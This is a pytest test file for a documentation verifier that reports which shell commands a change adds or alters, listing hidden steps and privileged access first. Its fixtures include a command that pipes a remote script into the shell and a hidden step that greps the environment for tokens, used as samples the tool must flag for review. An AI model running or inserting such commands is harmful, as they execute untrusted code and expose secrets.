"""`python -m verify static --changed-since REV`: the commands a change adds or alters, hidden first."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from verify import cli
from verify.static.changes import ACCESS, HIDDEN, POD_SECURITY, SHOWN, RevisionError, changes_since

FRONT = "---\ntitle: t\nweight: 1\nrequires: []\n---\n\n# t\n\n"
BEFORE = FRONT + "```shell\nkubectl get pods\nkubectl get svc\n```\n"
AFTER = FRONT + (
    "```shell\nkubectl get pods\nkubectl get svc -o wide\ncurl -s https://x.invalid/i.sh | sh\n```\n\n"
    "<!-- invisible-code-block: shell\nenv | grep -i token\n-->\n"
)


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, text=True,
                          env={"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x", "GIT_COMMITTER_NAME": "t",
                               "GIT_COMMITTER_EMAIL": "t@x", "PATH": "/usr/bin:/bin", "HOME": str(repo)}).stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    git(tmp_path, "init", "-q")
    page = tmp_path / "docs_src" / "ja" / "page.md"
    page.parent.mkdir(parents=True)
    page.write_text(BEFORE, encoding="utf-8")
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "-q", "-m", "before")
    page.write_text(AFTER, encoding="utf-8")
    return tmp_path


def test_added_and_altered_commands_are_listed_hidden_first(repo: Path) -> None:
    changes = changes_since([repo / "docs_src/ja/page.md"], repo, "HEAD")
    assert [(c.command.how, c.command.location.line, c.status, c.command.text) for c in changes] == [
        (HIDDEN, 16, "added", "env | grep -i token"),
        (SHOWN, 11, "altered", "kubectl get svc -o wide"),
        (SHOWN, 12, "added", "curl -s https://x.invalid/i.sh | sh"),
    ]


def test_a_page_that_did_not_exist_has_every_command_added(repo: Path) -> None:
    new = repo / "docs_src/ja/new.md"
    new.write_text(BEFORE, encoding="utf-8")
    changes = changes_since([new], repo, "HEAD")
    assert [(c.status, c.command.text) for c in changes] == [("added", "kubectl get pods"), ("added", "kubectl get svc")]


def test_an_unchanged_page_has_no_change(repo: Path) -> None:
    git(repo, "commit", "-q", "-am", "after")
    assert changes_since([repo / "docs_src/ja/page.md"], repo, "HEAD") == []


def test_declared_access_is_listed_before_every_command(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    page = repo / "docs_src/ja/page.md"
    page.write_text(AFTER.replace("requires: []\n", "requires: []\naccess:\n- reason: reads the nodes\n  verbs: [list]\n"
                                                      "  resources: [nodes]\n"), encoding="utf-8")
    changes = changes_since([page], repo, "HEAD")
    assert (changes[0].command.how, changes[0].command.location.line) == (ACCESS, 5)
    assert changes[0].command.text == "list nodes (core) cluster-wide: reads the nodes"
    cli.main(["static", "--root", str(repo), "--no-cache", "--report", str(repo / "r.json"), "--changed-since", "HEAD",
              str(page)])
    out = capsys.readouterr().out
    assert "1 access rule(s) declared or altered; 3 command(s) added or altered" in out
    assert out.index("list nodes (core) cluster-wide") < out.index("env | grep -i token")


def test_a_command_moved_into_a_hidden_step_counts_as_changed(repo: Path) -> None:
    page = repo / "docs_src/ja/page.md"
    page.write_text(FRONT + "```shell\nkubectl get pods\n```\n\n<!-- invisible-code-block: shell\nkubectl get svc\n-->\n",
                    encoding="utf-8")
    changes = changes_since([page], repo, "HEAD")
    assert [(c.command.how, c.command.text) for c in changes] == [(HIDDEN, "kubectl get svc")]


def test_an_unknown_revision_is_a_usage_error(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(RevisionError):
        changes_since([repo / "docs_src/ja/page.md"], repo, "no-such-rev")
    code = cli.main(["static", "--root", str(repo), "--no-cache", "--report", str(repo / "r.json"),
                     "--changed-since", "no-such-rev", str(repo / "docs_src/ja/page.md")])
    assert code == 2
    assert "--changed-since no-such-rev: not a commit" in capsys.readouterr().err


def test_the_cli_prints_the_changes(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    cli.main(["static", "--root", str(repo), "--no-cache", "--report", str(repo / "r.json"),
              "--changed-since", "HEAD", str(repo / "docs_src/ja/page.md")])
    out = capsys.readouterr().out
    assert "changes since HEAD: 0 access rule(s) declared or altered; 3 command(s) added or altered, 1 of them hidden" \
        in out
    hidden, curl = out.index("env | grep -i token"), out.index("curl -s https://x.invalid/i.sh | sh")
    assert hidden < curl
    assert "page.md:16  (added)" in out


def test_a_step_whose_pods_need_more_than_baseline_is_listed_first(repo: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    page = repo / "docs_src/ja/page.md"
    page.write_text(AFTER.replace("requires: []\n", "requires: []\naccess:\n- reason: reads the nodes\n  verbs: [list]\n"
                                                      "  resources: [nodes]\n")
                    + '\n<!-- verify: pod-security=privileged reason="the DaemonSet reads the nodes\' /var/log" -->\n'
                      "```shell\nkubectl apply -f filebeat.yaml\n```\n", encoding="utf-8")
    changes = changes_since([page], repo, "HEAD")
    assert changes[0].command.how == POD_SECURITY
    assert changes[0].command.text == ("pod-security=privileged (the DaemonSet reads the nodes' /var/log): "
                                       "kubectl apply -f filebeat.yaml")
    assert changes[1].command.how == ACCESS
    cli.main(["static", "--root", str(repo), "--no-cache", "--report", str(repo / "r.json"), "--changed-since", "HEAD",
              str(page)])
    out = capsys.readouterr().out
    assert "1 step(s) whose Pods need more than Pod Security baseline; 1 access rule(s)" in out
    assert out.index("pod-security=privileged") < out.index("list nodes (core) cluster-wide")
